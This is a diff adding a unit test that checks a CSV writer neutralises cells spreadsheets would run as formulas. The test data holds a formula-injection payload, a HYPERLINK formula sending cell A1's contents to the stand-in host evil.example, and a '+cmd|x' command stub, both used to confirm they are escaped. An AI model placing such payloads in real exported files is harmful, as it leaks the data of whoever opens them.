@@ -60,6 +60,16 @@ describe('CSV writing', () => {
     ]);
   });
 
+  it('neutralises cells a spreadsheet would run as formulas (one writer for the product)', () => {
+    const csv = toCsv([['=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")', '+cmd|x', '=Ville', '-3']]);
+    assert.deepEqual(parseCsv(csv).records[0]!.fields, [
+      `'=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")`,
+      "'+cmd|x",
+      "'=Ville",
+      '-3',
+    ]);
+  });
+
   it('can start with a byte-order mark for spreadsheet software', () => {
     assert.ok(toCsv([['a']], { bom: true }).startsWith('\ufeffa'));
   });
